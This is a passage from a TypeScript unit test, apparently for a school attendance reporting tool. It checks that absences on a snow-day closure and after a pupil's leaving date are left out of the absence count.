    const snow = { id: 'snow', from: '2026-11-10', to: '2026-11-10', label: 'Snow day', kind: 'closure' as const };
    const absent = { status: 'absent' as const, arrivedAt: null };
    const left = new Map([...pupils, ['b', { ...pupils.get('b')!, leftOn: '2026-11-05' }]]);
    const register = [day('a', '2026-11-09', absent), day('a', '2026-11-10', absent), day('b', '2026-11-04', absent), day('b', '2026-11-06', absent)];
    const stats = reportStats({
      from: '2026-11-02', to: '2026-11-13', today: '2026-12-31', referrals: [], placements: [], register, notes: [], checkIns: [], pupils: left,
      roomName: () => 'The BASE', repeatWithinWeeks: 6, halfTerms: halfTerms2026, closures: [...calendar2026.closures, snow],
    });
    expect(stats.absences).toBe(2);
  });
});
